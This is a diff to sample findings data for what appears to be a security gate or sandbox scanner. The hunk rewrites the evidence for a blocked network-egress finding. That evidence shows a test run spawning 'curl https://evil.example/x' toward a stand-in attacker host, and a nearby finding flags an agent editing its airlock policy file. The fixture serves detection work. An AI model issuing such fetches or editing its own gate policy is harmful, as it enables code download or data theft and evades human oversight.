@@ -57,9 +57,9 @@ def findings() -> list[Finding]:
                 help_url="https://docs.prismacloud.io/en/enterprise-edition/policy-reference"),
         Finding("runtime", "sandbox", "runtime.net.egress-blocked", "the test command tried to reach the network",
                 Severity.MEDIUM, "", evidence=(
-                    "process: 101 python -m pytest", "process:   102 sh -c curl evil.example",
-                    "process:     103 curl https://evil.example/x", "blocked: connect 93.184.216.34:443 (evil.example)",
-                    "blocked: dns evil.example")),
+                    "command[0]: python -m pytest",
+                    "process: python -m pytest -> sh -c curl evil.example -> curl https://evil.example/x",
+                    "proxy: CONNECT evil.example:443 -> refused (403)", "dns query type=A name='evil.example'")),
         Finding("agent", "airlock", "agent.policy-change",
                 "this change edits the airlock policy (airlock.toml); the gate keeps using the base revision's "
                 "version", Severity.HIGH, "airlock.toml", 2, 2, snippet="edits airlock.toml"),
